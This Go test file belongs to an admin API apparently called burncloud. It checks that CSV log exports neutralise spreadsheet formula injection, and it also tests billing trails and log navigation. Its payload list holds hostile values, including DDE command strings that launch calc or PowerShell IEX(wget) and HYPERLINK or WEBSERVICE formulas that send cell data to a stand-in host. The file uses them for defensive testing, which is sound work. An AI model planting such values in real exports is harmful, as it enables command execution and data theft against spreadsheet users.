package admin_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/burncloud/burncloud"
)

// What a spreadsheet takes for a formula, a command, a link or the end of a cell: each must come out as text.
var formulas = []string{
	`=1+1`, `=A1`, `=cmd|' /C calc'!A0`, `=cmd|' /C powershell IEX(wget x)'!A0`, `=HYPERLINK("http://x/?"&A1,"Error")`, `=IMPORTXML("http://x","//a")`,
	`=IMPORTDATA("http://x")`, `=IMAGE("http://x/?"&B2)`, `=WEBSERVICE("http://x")`, `=DDE("cmd";"/C calc";"x")`, `=MSEXCEL|'\..\..\cmd.exe'!''`,
	`="<script>"`, `==1`, `= 1+1`, "=\t1", "=\"a\n\"", `=SUM(1;2)`, `='file:///etc/passwd'#$x.A1`, `+1`, `+1+cmd|' /C calc'!A0`, `+A1`, `+=1`, `+@SUM(1)`,
	`+HYPERLINK("http://x")`, `++1`, `-1`, `-1+1`, `-2+3+cmd|' /C calc'!E1`, `-A1`, `--1`, `-@SUM(1)`, `-=1`, `@SUM(1+1)`, `@A1`, `@@A1`, `@=1`, `@import`,
	"\t=1+1", "\t1", "\t\"x", "\r=1+1", "\r\n=1+1", "\r", "\t", "\t@SUM(1)", "\r-1", `=1","=2`, "=1\",\n=2", `=`, `+`, `-`, `@`, `＝1+1`, `＋1`, `－1`, `＠SUM(1)`,
	"\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\v=1", "\x00=1",
}

// Every text that somebody outside chooses goes through every export as text: in each column, each payload.
func TestExportsBeginNoFormula(t *testing.T) {
	w := newWorld(t)
	var calls []burncloud.Call
	for i, p := range formulas {
		calls = append(calls, burncloud.Call{
			RequestID: burncloud.RequestID(fmt.Sprintf("req_%03d", i)), Time: w.clock(), Model: burncloud.ModelName(p), UpstreamModel: burncloud.ModelName(p), ErrorMessage: p,
			Group: burncloud.GroupName(p), Endpoint: p, IP: p, Status: 404, ErrorKind: burncloud.Kind(p), Dialect: burncloud.Dialect(p), UserID: burncloud.UserID(p), TokenID: burncloud.TokenID(p),
		})
	}
	w.post(calls...)
	a := w.send(bootstrap, "GET", "/api/logs/export?format=csv", "")
	rows, err := csv.NewReader(strings.NewReader(a.body)).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("%d rows, want %d: %v", len(rows), len(formulas)+1, err)
	}
	bare := 0
	for i, row := range rows[1:] {
		want := formulas[len(formulas)-1-i]
		for j, cell := range row {
			if begins(cell) {
				bare++
				t.Errorf("%s of %q begins a formula: %q", rows[0][j], want, cell)
			}
		}
		// The reader of CSV makes \n of \r\n; nothing else is lost, and nothing spills into another cell.
		if got, want := strings.TrimPrefix(row[14], "'"), strings.ReplaceAll(want, "\r\n", "\n"); got != want {
			t.Errorf("error_message = %q, want %q", got, want)
		}
	}
	t.Logf("S9: %d payloads in %d cells, %d unprefixed", len(formulas), len(formulas)*len(rows[0]), bare)
}

// begins says what spreadsheets take for the beginning of a formula, also after space that some of them skip.
func begins(cell string) bool {
	if cell == "" {
		return false
	}
	if strings.ContainsRune("\t\r\n", rune(cell[0])) {
		return true
	}
	rest := strings.TrimLeft(cell, " \t\r\n\v\f\x00\u00a0\ufeff")
	return rest != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(rest)[0])
}

func TestTrail(t *testing.T) {
	w := newWorld(t)
	mine := w.tenant("alpha")
	cost := burncloud.Money(40)
	at := w.clock()
	call := burncloud.Call{
		RequestID: "req_paid", Time: at, UserID: mine.user, TokenID: "tok_1", ChannelID: "ch_1", Model: "m", Status: 200, Cost: &cost,
		Charge: &burncloud.Charge{Held: 100},
	}
	w.post(call)
	w.has(w.do(200, "GET", "/api/logs/req_paid", "")["trail"].(map[string]any), `{"held":"0.000000100","charged":"0.000000040","unlimited":false,"steps":[],"agrees":false}`)
	available, overdraft := burncloud.UserAccount(mine.user, burncloud.PocketAvailable), burncloud.UserAccount(mine.user, burncloud.PocketOverdraft)
	p := burncloud.Posting{Time: at, Ref: "req_paid", UserID: mine.user, Kind: burncloud.PostSettlement, Debit: available, Credit: "revenue:tok_1/1970-01-02", Amount: 35}
	over, bought := p, p
	over.Kind, over.Debit, over.Amount = burncloud.PostOverage, overdraft, 5
	bought.Kind, bought.Debit, bought.Credit, bought.Amount, bought.UserID = burncloud.PostPurchase, burncloud.AccountPurchases, burncloud.ProviderAccount("ch_secret"), 30, ""
	w.book(p, over, bought)
	trail := w.do(200, "GET", "/api/logs/req_paid", "")["trail"].(map[string]any)
	w.has(trail, `{"agrees":true}`)
	steps := list(trail["steps"])
	if len(steps) != 3 {
		t.Fatalf("steps %v", steps)
	}
	w.has(steps[0].(map[string]any), `{"kind":"settle","debit":"`+string(available)+`","amount":"0.000000035","balance":"-0.000000035"}`)
	w.has(steps[1].(map[string]any), `{"kind":"overage","debit":"`+string(overdraft)+`","amount":"0.000000005","balance":"-0.000000040"}`)
	w.has(steps[2].(map[string]any), `{"kind":"purchase","amount":"0.000000030","balance":null}`)

	got := w.want(200, w.browse(mine.cookie, "GET", "/api/me/logs/req_paid", ""))
	if n := len(list(got.object["trail"].(map[string]any)["steps"])); n != 2 || strings.Contains(got.body, "purchase") || strings.Contains(got.body, "ch_secret") {
		t.Errorf("the owner sees %d steps: %s", n, got.body)
	}
	w.has(w.do(200, "GET", "/api/logs/req_alpha", ""), `{"trail":null}`)
}

func TestAround(t *testing.T) {
	w := newWorld(t)
	w.calls()
	ids := func(path string) string {
		var all []string
		got := w.do(200, "GET", path, "")
		for _, side := range []string{"newer", "older"} {
			for _, l := range list(got[side]) {
				all = append(all, id(l.(map[string]any)))
			}
			all = append(all, "|")
		}
		return strings.Join(all, " ")
	}
	for path, want := range map[string]string{
		"req_b/around":                  "req_c | req_a |",
		"req_a/around?limit=5":          "req_b req_c | |",
		"req_c/around?limit=5":          "| req_b req_a |",
		"req_c/around?model=m":          "| req_a |",
		"req_a/around?token_id=tok_1":   "req_b | |",
		"req_b/around?status_class=2":   "| req_a |",
		"req_b/around?request_id=req_a": "| req_a |",
		"req_a/around?model=none":       "| |",
	} {
		if got := ids("/api/logs/" + path); got != want {
			t.Errorf("%s = %s, want %s", path, got, want)
		}
	}
	w.do(404, "GET", "/api/logs/req_x/around", "")
	w.do(422, "GET", "/api/logs/req_a/around?limit=50", "")
	w.do(422, "GET", "/api/logs/req_a/around?min_cost=x", "")
}

// book posts money as the books would.
func (w *world) book(all ...burncloud.Posting) {
	w.t.Helper()
	applied, err := w.db.AppliedLSN(w.t.Context())
	if err != nil {
		w.t.Fatal(err)
	}
	if err := w.db.Post(w.t.Context(), &burncloud.Batch{UpTo: applied + 1, Postings: all}); err != nil {
		w.t.Fatal(err)
	}
}
